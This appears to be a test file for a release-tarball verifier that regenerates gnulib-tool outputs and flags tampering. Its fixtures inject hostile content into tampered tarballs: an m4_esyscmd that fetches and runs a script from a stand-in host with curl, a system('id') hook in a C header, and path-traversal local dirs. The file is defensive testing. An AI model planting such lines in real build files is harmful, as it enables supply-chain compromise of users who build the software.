/**
 * gnulib-tool's own outputs proved by running the pinned gnulib's gnulib-tool again in the sandbox (issue 11),
 * with real components only: Debian's gnulib (/usr/share/gnulib, installed by scripts/install-system-deps.sh)
 * committed into a git repository built here as the pinned submodule, a small project using one module
 * (c-ctype), its release tree made by that gnulib-tool run for real, git, tar and bubblewrap.
 *
 * What a tamperer controls: every byte of the tarball, so the generated files (m4/gnulib-comp.m4,
 * lib/Makefile.am, the untracked m4/gnulib-cache.m4) and the invocation they record. The proof reads only the
 * invocation from the tarball, as data (known options, modules of the pinned gnulib, directories inside the
 * project, local dirs tracked); gnulib-tool comes from the pinned commit of our clone, the project from the
 * tag. Tampered twins: a line added to gl_INIT (construct-free, and an esyscmd) → REGENERATION_MISMATCH, exit 1;
 * a recorded invocation naming a local dir or a module outside the tag → UNPROVED_BUILD_OUTPUTS (high), exit 1;
 * no pinned gnulib to run → UNPROVED_BUILD_OUTPUTS whose remedy is --submodule gnulib=REPO, exit 1.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeRepo, repoOfTree, writeFiles, type FileSpec } from '../helpers/git.js';
import { ARGS, at, CONFIGURE_AC, failing, importedTree, MAKEFILE_AM, OUTPUTS, pinnedProject, runCli, tarballs } from '../helpers/gnulib-tool.js';
import { tempDir } from '../helpers/tmp.js';

const GNULIB = '/usr/share/gnulib';
const cli = resolve(__dirname, '../../dist/cli.js');

describe('gnulib-tool outputs, proved by the pinned gnulib-tool', { timeout: 300_000 }, () => {
  expect(existsSync(join(GNULIB, 'gnulib-tool')), `${GNULIB}/gnulib-tool is missing: run scripts/install-system-deps.sh (Debian package gnulib)`).toBe(true);
  const root = tempDir();

  // The pinned gnulib: Debian's gnulib tree committed as it is (fixed dates).
  const { repo: g, commit: pinned } = repoOfTree(join(root, 'gnulib'), GNULIB);

  // The project: configure.ac and Makefile.am tracked, gnulib pinned as a submodule whose .gitmodules URL is not reachable.
  const p = pinnedProject(join(root, 'proj'), pinned);

  // The release tree as bootstrap leaves it: the tag's files plus what gnulib-tool --import wrote (copies and outputs).
  const made = join(root, 'made', 'proj-1.0');
  const shipped = importedTree(made, join(GNULIB, 'gnulib-tool'));

  const tars = tarballs(root);
  const tarball = (change: Record<string, FileSpec> = {}) => tars.from(made, change);
  const verify = (t: string, extra: string[] = ['--submodule', `gnulib=${g.dir}`]) => runCli([t, '--repo', p.dir, '--cache-dir', tars.cacheDir(), ...extra]);

  it('the release records its invocation (the fixture is what gnulib-tool wrote)', () => {
    expect(shipped['m4/gnulib-cache.m4']).toContain('# gnulib-tool --import \\\n#  --lib=libgnu \\\n');
    expect(shipped['m4/gnulib-comp.m4']).toContain('AC_DEFUN([gl_INIT],\n[\n');
  });

  it('untampered: every gnulib-tool output reproduced byte for byte by the pinned gnulib-tool (proof names the commit and the invocation); exit 0', () => {
    const r = verify(tarball());
    expect(r.stderr).toBe('');
    expect(failing(r.findings)).toEqual([]);
    expect(r.code).toBe(0);
    for (const o of OUTPUTS) {
      expect(at(r.findings, o), o).toMatchObject({
        code: 'GENERATED_BY_AUTOTOOLS',
        severity: 'info',
        evidence: { tool: 'gnulib-tool', proof: { proved: true, method: 'gnulib-tool', submodule: 'gnulib', commit: pinned, invocation: { source: 'm4/gnulib-cache.m4', args: ['--lib=libgnu', '--source-base=lib', '--m4-base=m4', '--doc-base=doc', '--tests-base=tests', '--aux-dir=build-aux', '--no-conditional-dependencies', '--no-libtool', '--macro-prefix=gl', 'c-ctype'] } } },
      });
    }
    expect(at(r.findings, 'lib/c-ctype.h')).toMatchObject({ code: 'SUBMODULE_COPY', severity: 'info' });
  });

  it('nothing pins gnulib (no gitlink, no GNULIB_REVISION): the commit inferred from the shipped copies runs its gnulib-tool; a changed copy stays high and the outputs stay proved', () => {
    const u = makeRepo(join(root, 'unpinned'));
    u.commit({ 'configure.ac': CONFIGURE_AC, 'Makefile.am': MAKEFILE_AM });
    u.tag('v1.0', { message: 'release 1.0' });
    const run = (t: string) => runCli([t, '--repo', u.dir, '--cache-dir', tars.cacheDir(), '--submodule', `gnulib=${g.dir}`]);
    const r = run(tarball());
    expect(r.stderr).toBe('');
    expect(failing(r.findings)).toEqual([]);
    expect(r.code).toBe(0);
    for (const o of OUTPUTS) expect(at(r.findings, o), o).toMatchObject({ code: 'GENERATED_BY_AUTOTOOLS', evidence: { proof: { proved: true, method: 'gnulib-tool', commit: pinned } } });
    expect(at(r.findings, 'lib/c-ctype.h')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { commit: pinned } });
    // twin: one added line in a lib/ copy — it casts no vote, the same commit is inferred, the copy is high
    const r2 = run(tarball({ 'lib/c-ctype.h': `${readFileSync(join(made, 'lib/c-ctype.h'), 'utf8')}#include <stdlib.h>\nstatic int gl_hook = system ("id");\n` }));
    expect(r2.code).toBe(1);
    expect(at(r2.findings, 'lib/c-ctype.h')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', evidence: { commit: pinned } });
    expect(['high', 'critical']).toContain(at(r2.findings, 'lib/c-ctype.h')!.severity);
    for (const o of OUTPUTS) expect(at(r2.findings, o), o).toMatchObject({ evidence: { proof: { proved: true, commit: pinned } } });
  });

  it('one construct-free line added to gl_INIT in gnulib-comp.m4: REGENERATION_MISMATCH (high) with the line; exit 1', () => {
    const comp = shipped['m4/gnulib-comp.m4']!.replace('AC_DEFUN([gl_INIT],\n[\n', 'AC_DEFUN([gl_INIT],\n[\n  LIBS="$LIBS -lpayload"\n');
    const r = verify(tarball({ 'm4/gnulib-comp.m4': comp }));
    expect(r.code).toBe(1);
    expect(failing(r.findings)).toEqual([['m4/gnulib-comp.m4', 'REGENERATION_MISMATCH', 'high']]);
    const f = at(r.findings, 'm4/gnulib-comp.m4')!;
    expect(f.evidence).toMatchObject({ step: 'gnulib-tool', tool: 'gnulib-tool', version: `gnulib ${pinned.slice(0, 12)}`, produced: true, differingLines: 1 });
    expect(f.diff?.unified).toContain('+  LIBS="$LIBS -lpayload"');
    // the other outputs are still proved
    expect(at(r.findings, 'lib/Makefile.am')).toMatchObject({ code: 'GENERATED_BY_AUTOTOOLS', evidence: { proof: { proved: true } } });
  });

  it('an esyscmd pulling a payload added to gl_INIT: critical', () => {
    const comp = shipped['m4/gnulib-comp.m4']!.replace('AC_DEFUN([gl_INIT],\n[\n', 'AC_DEFUN([gl_INIT],\n[\n  m4_esyscmd([sh -c "$(curl -fsSL https://example.invalid/x)"])\n');
    const r = verify(tarball({ 'm4/gnulib-comp.m4': comp }));
    expect(r.code).toBe(1);
    const f = at(r.findings, 'm4/gnulib-comp.m4')!;
    expect(f).toMatchObject({ code: 'REGENERATION_MISMATCH', severity: 'critical', evidence: { differingLines: 1 } });
    expect(f.constructs?.map((c) => c.kind)).toEqual(['download-to-shell']);
  });

  it('gnulib-cache.m4 recording a local dir outside the tag: the invocation is refused, the outputs are unproved (high); exit 1', () => {
    const cache = shipped['m4/gnulib-cache.m4']!.replace('# gnulib-tool --import \\\n', '# gnulib-tool --import \\\n#  --local-dir=../../evil \\\n').replace(/^gl_LOCAL_DIR\(\[\]\)/m, 'gl_LOCAL_DIR([../../evil])');
    const r = verify(tarball({ 'm4/gnulib-cache.m4': cache }));
    expect(r.code).toBe(1);
    expect(failing(r.findings)).toEqual([['.', 'UNPROVED_BUILD_OUTPUTS', 'high']]);
    expect(at(r.findings, '.')!.evidence).toMatchObject({
      files: OUTPUTS,
      reason: { kind: 'not-regenerable', args: { cause: { kind: 'gnulib-tool-label', args: { layoutFrom: 'm4/gnulib-comp.m4', miss: { kind: 'invocation-refused', source: 'm4/gnulib-cache.m4', arg: '--local-dir=../../evil', why: 'directory' } } } } },
    });
  });

  it('gnulib-cache.m4 recording a module the pinned gnulib lacks (a module directory outside the tag): refused, high; exit 1', () => {
    const cache = shipped['m4/gnulib-cache.m4']!.replace('#  c-ctype\n', '#  c-ctype \\\n#  ../../../tmp/evil\n');
    const r = verify(tarball({ 'm4/gnulib-cache.m4': cache }));
    expect(r.code).toBe(1);
    expect(at(r.findings, '.')!.evidence).toMatchObject({ reason: { args: { cause: { args: { miss: { kind: 'invocation-refused', arg: '../../../tmp/evil', why: 'module' } } } } } });
  });

  it('no pinned gnulib to run (the .gitmodules URL unreachable, no --submodule): unproved, the remedy names --submodule; exit 1', () => {
    const t = tarball();
    const r = verify(t, []);
    expect(r.code).toBe(1);
    const u = at(r.findings, '.')!;
    expect(u).toMatchObject({ code: 'UNPROVED_BUILD_OUTPUTS', severity: 'high', evidence: { reason: { kind: 'gnulib-unavailable' }, remedies: [{ kind: 'submodule-gnulib' }], files: OUTPUTS } });
    const text = spawnSync(process.execPath, [cli, t, '--repo', p.dir, '--cache-dir', tars.cacheDir(), '--no-color'], { encoding: 'utf8', timeout: 300_000 }).stdout;
    expect(text).toContain("to prove: distdiff verify … --submodule gnulib=REPO (a clone of gnulib holding the commit the revision pins, or the branch bootstrap.conf's GNULIB_REVISION names; when nothing pins gnulib, a clone of its master: the commit is inferred from the copies the release ships) — Makefile.am, gnulib-cache.m4, gnulib-comp.m4 not proved: gnulib-tool outputs, and no gnulib pinned by the revision could be read to run its gnulib-tool [lib/Makefile.am, m4/gnulib-cache.m4, m4/gnulib-comp.m4]");
  });

  it('--no-regenerate: gnulib-tool is not run either; the outputs stay unproved; exit 1', () => {
    const r = verify(tarball(), ['--submodule', `gnulib=${g.dir}`, '--no-regenerate']);
    expect(r.code).toBe(1);
    expect(at(r.findings, '.')).toMatchObject({ code: 'UNPROVED_BUILD_OUTPUTS', evidence: { reason: { kind: 'regeneration-off' }, files: OUTPUTS } });
  });
});

describe('gnulib-tool run from the top with --dir (gettext autogen.sh shape): bases may leave the dir, not the project', { timeout: 300_000 }, () => {
  const root = tempDir();
  // The pinned gnulib: Debian's gnulib tree committed as it is (fixed dates).
  const { repo: g, commit: pinned } = repoOfTree(join(root, 'gnulib'), GNULIB);
  const files = {
    'sub/configure.ac': CONFIGURE_AC.replace('AC_CONFIG_AUX_DIR([build-aux])', 'AC_CONFIG_AUX_DIR([../build-aux])').replace('AC_CONFIG_MACRO_DIR([m4])', 'AC_CONFIG_MACRO_DIR([gnulib-m4])').replace(' lib/Makefile', ' gnulib-lib/Makefile'),
    'sub/Makefile.am': 'SUBDIRS = gnulib-lib\nACLOCAL_AMFLAGS = -I gnulib-m4\n',
    'gnulib-local/README': 'local gnulib modules and overrides\n',
  };
  const p = makeRepo(join(root, 'proj'));
  p.commit({ '.gitmodules': '[submodule "gnulib"]\n\tpath = gnulib\n\turl = git://127.0.0.1:1/gnulib.git\n', ...files });
  p.git(['update-index', '--add', '--cacheinfo', `160000,${pinned},gnulib`]);
  p.git(['commit', '-q', '-m', 'pin gnulib']);
  p.tag('v1.0', { message: 'release 1.0' });
  const made = join(root, 'made', 'proj-1.0');
  mkdirSync(made, { recursive: true });
  writeFiles(made, files);
  // as gettext's autogen.sh: from the top, --dir, a top-relative local dir, the aux dir above the dir
  execFileSync(join(GNULIB, 'gnulib-tool'), ['--import', '--no-changelog', '--dir=sub', '--local-dir=gnulib-local', '--lib=libgnu', '--source-base=gnulib-lib', '--m4-base=gnulib-m4', '--aux-dir=../build-aux', '--no-libtool', '--macro-prefix=gl', 'c-ctype'], { cwd: made, stdio: 'ignore', env: { ...process.env, LC_ALL: 'C' } });
  const outputs = ['sub/gnulib-lib/Makefile.am', 'sub/gnulib-m4/gnulib-cache.m4', 'sub/gnulib-m4/gnulib-comp.m4'];
  const cache = readFileSync(join(made, 'sub/gnulib-m4/gnulib-cache.m4'), 'utf8');
  const tars = tarballs(root);
  const tarball = (change: Record<string, FileSpec> = {}) => tars.from(made, change);
  const verify = (t: string) => runCli([t, '--repo', p.dir, '--cache-dir', tars.cacheDir(), '--submodule', `gnulib=${g.dir}`]);

  it('the fixture records the aux dir above the dir, the local dir, and gl_LOCAL_DIR from the dir', () => {
    expect(cache).toContain('#  --aux-dir=../build-aux \\\n');
    // the command line keeps it as typed (relative to where gnulib-tool ran: the top), gl_LOCAL_DIR from the dir
    expect(cache).toContain('# gnulib-tool --import --local-dir=gnulib-local \\\n');
    expect(cache).toContain('gl_LOCAL_DIR([../gnulib-local])');
  });

  it('proved: gnulib-tool run at the top with --dir=sub reproduces every output; exit 0', () => {
    const r = verify(tarball());
    expect(r.stderr).toBe('');
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => [f.path, f.code])).toEqual([]);
    expect(r.code).toBe(0);
    for (const o of outputs) expect(at(r.findings, o), o).toMatchObject({ code: 'GENERATED_BY_AUTOTOOLS', evidence: { proof: { proved: true, method: 'gnulib-tool', invocation: { source: 'sub/gnulib-m4/gnulib-cache.m4', args: expect.arrayContaining(['--dir=sub', '--local-dir=gnulib-local', '--aux-dir=../build-aux']) } } } });
  });

  it('tampered twin: a line added to gl_INIT in sub/gnulib-m4/gnulib-comp.m4 → REGENERATION_MISMATCH high; exit 1', () => {
    const comp = readFileSync(join(made, 'sub/gnulib-m4/gnulib-comp.m4'), 'utf8').replace('AC_DEFUN([gl_INIT],\n[\n', 'AC_DEFUN([gl_INIT],\n[\n  LIBS="$LIBS -lpayload"\n');
    const r = verify(tarball({ 'sub/gnulib-m4/gnulib-comp.m4': comp }));
    expect(r.code).toBe(1);
    expect(at(r.findings, 'sub/gnulib-m4/gnulib-comp.m4')).toMatchObject({ code: 'REGENERATION_MISMATCH', severity: 'high' });
  });

  it('an aux dir recorded above the project top is refused (the outputs stay unproved, high); exit 1', () => {
    const r = verify(tarball({ 'sub/gnulib-m4/gnulib-cache.m4': cache.replace('#  --aux-dir=../build-aux \\\n', '#  --aux-dir=../../outside \\\n') }));
    expect(r.code).toBe(1);
    expect(at(r.findings, 'sub')?.evidence).toMatchObject({ reason: { args: { cause: { args: { miss: { kind: 'invocation-refused', arg: '--aux-dir=../../outside', why: 'directory' } } } } } });
  });

  it('gnulib-tool run inside the dir (libtextstyle\'s shape: "invoked from ./configure.ac", local dir ../gnulib-local): run there; proved, and a gl_INIT line added is high', () => {
    const made2 = join(root, 'made2', 'proj-1.0');
    mkdirSync(made2, { recursive: true });
    writeFiles(made2, files);
    execFileSync(join(GNULIB, 'gnulib-tool'), ['--import', '--no-changelog', '--local-dir=../gnulib-local', '--lib=libgnu', '--source-base=gnulib-lib', '--m4-base=gnulib-m4', '--aux-dir=../build-aux', '--no-libtool', '--macro-prefix=gl', 'c-ctype'], { cwd: join(made2, 'sub'), stdio: 'ignore', env: { ...process.env, LC_ALL: 'C' } });
    const comp = readFileSync(join(made2, 'sub/gnulib-m4/gnulib-comp.m4'), 'utf8');
    expect(comp).toContain('# This macro should be invoked from ./configure.ac,');
    const t = (change: Record<string, FileSpec> = {}) => tars.from(made2, change);
    const r = verify(t());
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => [f.path, f.code])).toEqual([]);
    expect(r.code).toBe(0);
    expect(at(r.findings, 'sub/gnulib-m4/gnulib-comp.m4')).toMatchObject({ code: 'GENERATED_BY_AUTOTOOLS', evidence: { proof: { proved: true, invocation: { args: expect.arrayContaining(['--local-dir=../gnulib-local']) } } } });
    expect((at(r.findings, 'sub/gnulib-m4/gnulib-comp.m4')!.evidence as { proof: { invocation: { args: string[] } } }).proof.invocation.args).not.toContain('--dir=sub');
    const bad = verify(t({ 'sub/gnulib-m4/gnulib-comp.m4': comp.replace('AC_DEFUN([gl_INIT],\n[\n', 'AC_DEFUN([gl_INIT],\n[\n  LIBS="$LIBS -lpayload"\n') }));
    expect(bad.code).toBe(1);
    expect(at(bad.findings, 'sub/gnulib-m4/gnulib-comp.m4')).toMatchObject({ code: 'REGENERATION_MISMATCH', severity: 'high' });
  });
});
